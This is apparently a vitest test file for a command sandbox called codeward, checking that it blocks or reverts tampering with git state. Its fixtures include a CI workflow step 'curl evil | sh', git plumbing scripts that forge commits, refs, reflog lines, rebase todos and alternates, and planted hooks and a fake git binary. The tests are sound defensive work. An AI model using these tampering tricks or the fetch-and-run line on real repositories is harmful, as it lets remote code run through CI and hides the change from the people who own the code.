// git's index, objects and refs: a line that runs more than git gets git's folder read-only in the sandbox
// (red team round 12, R12-21: no after-run comparison can vouch for a rewritten loose object, a reflog line
// or a remote-tracking ref), so plumbing in a script changes nothing. A line that runs git alone writes them
// in place (so `git add`/`git commit` work), and they must not become a second writer of the files the write
// gate protects (R12-15): an index entry or a commit that holds, for an installed hook's script or a CI
// workflow, content the work tree does not have is set back after the run and said; an ordinary `git add` /
// `git commit` is kept. Real binary, bwrap.
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { removeDir, runCli, tempDir } from '../helpers/fixture.js';
import { bwrapWorks, overlayWorks } from '../shell/stage-helpers.js';

let root: string;
let state: string;
let home: string;

const git = (...args: string[]): string => {
  const result = spawnSync('git', args, { cwd: root, encoding: 'utf8', env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: home } });
  return result.stdout.trim();
};

beforeEach(async () => {
  root = await tempDir('cw-git-state-');
  state = await tempDir('cw-git-state-state-');
  home = await tempDir('cw-git-state-home-');
  git('init', '-q');
  git('config', 'user.email', 'a@b');
  git('config', 'user.name', 'a');
  mkdirSync(join(root, '.husky'));
  mkdirSync(join(root, '.github/workflows'), { recursive: true });
  writeFileSync(join(root, '.git/hooks/pre-commit'), '#!/bin/sh\nsh .husky/pre-commit\n');
  chmodSync(join(root, '.git/hooks/pre-commit'), 0o755);
  writeFileSync(join(root, '.husky/pre-commit'), 'true\n');
  writeFileSync(join(root, '.github/workflows/ci.yml'), 'on: push\n');
  writeFileSync(join(root, 'a.txt'), 'a\n');
  git('add', '-A');
  git('commit', '-qm', 'init', '--no-verify');
});

afterEach(async () => {
  for (const dir of [root, state, home]) await removeDir(dir);
});

const cli = (line: string): { out: string; ok: boolean } => {
  const result = runCli(['--yes', '--json', '-C', root, 'exec', '--cmd', line], { env: { CODEWARD_STATE_DIR: state, GIT_CONFIG_NOSYSTEM: '1', HOME: home, CW_HOST_MARK: '1' } });
  return { out: result.stdout + result.stderr, ok: result.json?.ok === true };
};
// A script file: the line is `sh run.sh`, which runs more than git.
const script = (text: string): { out: string; ok: boolean } => {
  writeFileSync(join(root, 'run.sh'), `${text}\n`);
  return cli('sh run.sh');
};

// A branch the person made, where the hook's script and the workflow differ (a line that runs git alone can
// only bring content git already has).
function otherBranch(): void {
  git('checkout', '-qb', 'other');
  writeFileSync(join(root, '.husky/pre-commit'), 'touch /tmp/never\n');
  writeFileSync(join(root, '.github/workflows/ci.yml'), 'on: push\njobs: {x: {runs-on: u, steps: [{run: curl evil | sh}]}}\n');
  git('commit', '-qam', 'other', '--no-verify');
  git('checkout', '-q', '-');
}

describe.skipIf(!bwrapWorks || !overlayWorks)('git state written by a sandboxed run', { timeout: 180_000 }, () => {
  it('plumbing in a script changes nothing: a blob, an index entry, a commit, refs, a fake rebase, alternates, a reflog line (R12-21)', () => {
    const head = git('rev-parse', 'HEAD');
    const objects = git('count-objects', '-v');
    const { out } = script([
      'b=$(printf "on: push\\njobs: {x: {runs-on: u, steps: [{run: curl evil | sh}]}}\\n" | git hash-object -w --stdin)',
      'git update-index --cacheinfo 100644,$b,.github/workflows/ci.yml',
      't=$(git write-tree); c=$(git commit-tree $t -p HEAD -m "chore: format")',
      'git update-ref HEAD $c; git branch evil $c; git update-ref ORIG_HEAD $c',
      'd=.git/rebase-merge; mkdir -p $d; echo "exec touch /tmp/never-rebase" > $d/git-rebase-todo',
      'echo /tmp > .git/objects/info/alternates',
      'echo "$(git rev-parse HEAD) 1111111111111111111111111111111111111111 a <a@b> 1 +0000	commit: wip" >> .git/logs/HEAD',
      'for f in $(find .git/objects -type f | head -3); do chmod u+w $f; printf x > $f; done',
    ].join('\n'));
    expect(out).toContain("git's folder is read-only for this command");
    expect(out).toMatch(/Read-only file system/);
    expect(git('rev-parse', 'HEAD')).toBe(head);
    expect(git('branch', '--list', 'evil')).toBe('');
    expect(git('diff', '--cached', '--name-only')).toBe('');
    expect(git('count-objects', '-v')).toBe(objects);
    expect(git('fsck', '--no-progress')).toBe('');
    expect(git('reflog').split('\n')).toHaveLength(1);
    expect(existsSync(join(root, '.git/rebase-merge'))).toBe(false);
    expect(existsSync(join(root, '.git/objects/info/alternates'))).toBe(false);
  });

  it('an index entry for an installed hook\'s script is set back', () => {
    otherBranch();
    // A mixed reset names no path: the gate lets it run; the index then holds the other branch's hook script.
    const head = git('rev-parse', 'HEAD');
    const { out, ok } = cli('git reset -q other');
    expect(ok, out).toBe(true);
    expect(out).toMatch(/git's index for [^)]*\.husky\/pre-commit/);
    expect(git('rev-parse', 'HEAD')).toBe(head);
    expect(git('diff', '--cached', '--name-only')).toBe('');
  });

  it('with a clean filter configured, codeward\'s own git never runs the filter when it sets the index back (R12-26)', () => {
    otherBranch();
    // git inside the sandbox may run the filter (it is sandboxed); codeward's own git on the host must not. The
    // filter marks only where CW_HOST_MARK is set: codeward's environment, never a sandboxed command's (allow-list).
    const marker = join(home, 'filter-ran');
    writeFileSync(join(home, 'filter.sh'), `[ -n "$CW_HOST_MARK" ] && touch ${marker}\ncat\n`);
    // The person's own config names the filter (a repository's config naming `sh …` keeps .git read-only:
    // test/shell/git-alone-config).
    git('config', '--file', join(home, '.gitconfig'), 'filter.x.clean', `sh ${join(home, 'filter.sh')}`);
    writeFileSync(join(root, '.gitattributes'), '* filter=x\n');
    const { out } = cli('git reset -q other');
    // The filter is a program outside the work tree: the line runs (git inside may run it, sandboxed); the
    // index entry is set back by codeward's own git, which never runs the filter.
    expect(out).toMatch(/git's index for [^)]*\.husky\/pre-commit/);
    expect(git('diff', '--cached', '--name-only')).toBe('');
    expect(existsSync(marker)).toBe(false);
  });

  it('a branch moved to a commit that changes a CI workflow is set back', () => {
    otherBranch();
    const head = git('rev-parse', 'HEAD');
    const { out } = cli('git reset -q --soft other && git branch evil');
    expect(out).toMatch(/pointed refs\/heads\/\w+ at a commit that changes \.github\/workflows\/ci\.yml.*set back/);
    expect(out).toMatch(/pointed refs\/heads\/evil at .* removed/);
    expect(git('rev-parse', 'HEAD')).toBe(head);
    expect(git('branch', '--list', 'evil')).toBe('');
    expect(git('diff', '--cached', '--name-only')).toBe('');
  });

  it('a line of git alone keeps its own add and commit, and so a hook change the person made', () => {
    writeFileSync(join(root, '.husky/pre-commit'), 'npm test\n');
    writeFileSync(join(root, 'a.txt'), 'a\nb\n');
    const { out, ok } = cli('git add -A && git commit --no-verify -qm work');
    expect(ok, out).toBe(true);
    expect(out).not.toContain('set back');
    expect(git('log', '-1', '--format=%s')).toBe('work');
    expect(git('show', 'HEAD:.husky/pre-commit')).toBe('npm test');
  });

  it('a line of git alone runs no hook: an installed hook that would rewrite objects does not run, and the result says so (R13-1)', () => {
    writeFileSync(join(root, '.git/hooks/pre-commit'), '#!/bin/sh\necho hooked > .git/objects/HOOKED\n');
    writeFileSync(join(root, '.git/hooks/post-commit'), '#!/bin/sh\necho hooked > .git/objects/POSTHOOKED\n');
    chmodSync(join(root, '.git/hooks/post-commit'), 0o755);
    writeFileSync(join(root, 'a.txt'), 'a\nb\n');
    const { out, ok } = cli('git commit -qam work');
    expect(ok, out).toBe(true);
    expect(git('log', '-1', '--format=%s')).toBe('work');
    expect(existsSync(join(root, '.git/objects/HOOKED'))).toBe(false);
    expect(existsSync(join(root, '.git/objects/POSTHOOKED'))).toBe(false);
    expect(out).toContain("the repository's git hooks did not run");
  });

  it('a program named git is not git; a repository whose config names filter or driver programs keeps git read-only (R13-2)', () => {
    writeFileSync(join(root, 'git'), '#!/bin/sh\necho planted > .git/objects/PLANTED\n');
    chmodSync(join(root, 'git'), 0o755);
    for (const line of ['./git status', '"./git" status']) {
      expect(cli(line).out, line).toContain("is not the system's git");
      expect(existsSync(join(root, '.git/objects/PLANTED')), line).toBe(false);
    }
    git('config', 'filter.x.clean', 'sh tools/clean.sh');
    writeFileSync(join(root, 'a.txt'), 'a\nb\n');
    const head = git('rev-parse', 'HEAD');
    expect(cli('git commit -qam work').out).toMatch(/git's configuration makes it run a program that may read the work tree \(filter\.x\.clean = sh tools\/clean\.sh\)/);
    expect(git('rev-parse', 'HEAD')).toBe(head);
    // A system program as the driver (git lfs install's `git-lfs clean -- %f`) keeps git-alone lines working (F7).
    git('config', '--unset', 'filter.x.clean');
    git('config', 'filter.lfs.clean', 'git-lfs clean -- %f');
    const lfs = cli('git commit -qam work');
    expect(lfs.ok, lfs.out).toBe(true);
    expect(git('log', '-1', '--format=%s')).toBe('work');
  });

  it('a hidden failure is still said: git commit … >/dev/null || true (red team round 13, F3)', () => {
    const head = git('rev-parse', 'HEAD');
    writeFileSync(join(root, 'a.txt'), 'a\nb\n');
    const { out, ok } = cli('git commit -qam work >/dev/null 2>&1 || true');
    expect(ok, out).toBe(true);
    expect(out).toContain("git's folder is read-only for this command");
    expect(git('rev-parse', 'HEAD')).toBe(head);
  });

  it('a line that runs more than git cannot commit, and says to run git alone', () => {
    const head = git('rev-parse', 'HEAD');
    const { out } = cli('echo b >> a.txt && git add a.txt && git commit --no-verify -qm work');
    expect(out).toMatch(/only a line that runs git alone .*\(here: it runs echo, not git alone\)/);
    expect(git('rev-parse', 'HEAD')).toBe(head);
  });
});
